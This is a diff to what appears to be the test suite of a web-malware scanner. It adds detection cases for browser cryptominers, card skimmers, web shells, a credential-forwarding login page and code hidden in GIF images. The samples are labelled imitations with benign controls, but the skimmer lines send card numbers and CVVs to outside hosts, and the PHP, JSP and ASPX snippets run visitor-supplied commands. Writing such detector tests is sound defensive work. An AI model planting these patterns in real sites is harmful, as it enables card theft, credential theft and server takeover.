@@ -86,6 +86,50 @@ hit('Web module that mines', '/var/www/html/w.wasm', b'\0asm\1\0\0\0DAVY TEST IM
 quiet('/var/www/html/blog.html', '<html><body><p>CoinHive closed in 2019; its script was coinhive.min.js.</p></body></html>')
 quiet('/etc/hosts.block', '0.0.0.0 coinhive.com\n0.0.0.0 coin-hive.com\n0.0.0.0 authedmine.com\n0.0.0.0 crypto-loot.com\n')
 
+site = "new Quiet.Anonymous('3dfdd63fc13d571996eea951f52647ba563ae58483cd94278cc0b6b05af75bf2', {throttle: 0.3})"
+RULE = 'Page starts a browser miner'
+hit(RULE, '/var/www/html/own/plain.html', page.format('a.js', f'var c = {site}; c.start(); // DAVY TEST IMITATION'))
+hit(RULE, '/var/www/html/own/atob.html', page.format('a.js', f"eval(atob('{b64('var c = ' + site + '; c.start(); /* DAVY TEST IMITATION */')}'))"))
+hit(RULE, '/var/www/html/own/brackets.js', "var m = new window['Qui'+'et']['\\x41nonymous']('DAVY-TEST-IMITATION-0000', {}); m['start'](); m['getTotal'+'Hashes'](); m.setThrottle(0);\n")
+hit('Page loads a browser miner', '/var/www/html/own/host.html', page.format('//www.hostingcloud.racing/x.js', '/* DAVY TEST IMITATION */'))
+hit('Browser script that speaks a mining pool\'s language', '/var/www/html/own/socket.js',
+    "const s = new WebSocket('wss://p.example.net'), w = new Worker('w.js'); /* DAVY TEST IMITATION */\n"
+    "s.onmessage = e => w.postMessage({job_id: e.job_id, nonce: 0, algo: 'cn/r'});\n")
+quiet('/var/www/html/own/asks.html', page.format('https://authedmine.com/lib/authedmine.min.js', start))
+quiet('/var/www/html/own/user.js', "const u = new Auth.User('abcdefghijklmnop0123'); u.save();\n")
+
+# 63: copies of card data
+form = "document.addEventListener('submit', function () { var n = f['payment[cc_number]'].value, c = f.cc_cid.value; /* checkout, DAVY TEST IMITATION */"
+RULE = 'Script copies card data to another host'
+hit(RULE, '/var/www/shop/js/image.js', form + " if (/checkout/.test(location)) new Image().src = 'https://s.example.net/?' + btoa(n + c); });\n")
+hit(RULE, '/var/www/shop/js/beacon.js', form + f" navigator.sendBeacon(atob('{b64('https://stats.example.net/c')}'), btoa(n + c)); }});\n")
+hit(RULE, '/var/www/shop/js/name.js', form + " fetch('https://www.google-anaiytics.com/g', {method: 'POST', body: n + c}); });\n")
+quiet('/var/www/shop/js/own.js', form + " fetch('/api/pay', {method: 'POST', body: n + c}); });\n")
+quiet('/var/www/shop/js/paid.js', form + " fetch('https://api.stripe.com/v1/tokens', {method: 'POST', body: btoa(n + c)}); });\n")
+
+# 33, 50: pages that run or pass on what visitors send
+RULE = 'Page runs what a visitor sends'
+for name, text in {
+    'joined.php': "<?php /* DAVY TEST IMITATION */ $a = 'sys' . 'tem'; $a($_GET['x']);\n",
+    'named.php': "<?php /* DAVY TEST IMITATION */ $_GET['a']($_POST['b']);\n",
+    'cookie.php': "<?php /* DAVY TEST IMITATION */ $k = base64_decode($_COOKIE['k']); @eval(gzinflate($k));\n",
+    'page.jsp': '<% String c = request.getParameter("c"); new ProcessBuilder(c).start(); /* DAVY TEST IMITATION */ %>\n',
+    'page.aspx': '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%><!-- DAVY TEST IMITATION -->\n',
+}.items():
+    hit(RULE, f'/var/www/html/run/{name}', text)
+quiet('/var/www/html/run/ok.php', "<?php $id = intval($_GET['id']); $h[$_GET['a']](); $db->exec($_POST['q']); system('ls ' . escapeshellarg($_POST['d']));\n")
+hit('Page that mails or messages what visitors type', '/var/www/html/login/post.php',
+    "<?php /* DAVY TEST IMITATION */ $m = $_POST['user'] . $_POST['pass']; file_get_contents('https://api.telegram.org/bot1/sendMessage?text=' . $m);\n")
+
+# 121: programs under longer keys, code in pictures
+gif = bytes.fromhex('47494638396101000100800000ffffff0000002c00000000010001000002024401003b')
+for key in (b'\x5a', b'key', b'\x13\x37\xc0\xde\x99\x01\x02\xf0'):
+    hit('Program inside a picture', f'/var/www/html/img/{key.hex()}.gif', gif + bytes(b ^ key[i % len(key)] for i, b in enumerate(program('imitation'))))
+hit('Program inside a picture', '/var/www/html/img/added.gif', gif + bytes((b + 13) % 256 for b in program('imitation')))
+code = b'<?php /* DAVY TEST IMITATION */ echo 1; ?>'
+hit('Picture with code for the server', '/var/www/html/img/code.gif', gif[:19] + b'\x21\xfe' + bytes([len(code)]) + code + b'\0' + gif[19:])
+quiet('/var/www/html/img/plain.gif', gif)
+
 # 14, 15: hidden programs and scripts
 inner = '#!/bin/sh\necho DAVY TEST IMITATION; uname -a; touch /srv/rows/nothing; echo padding so that this is worth hiding\n'
 hexed = inner.encode().hex()
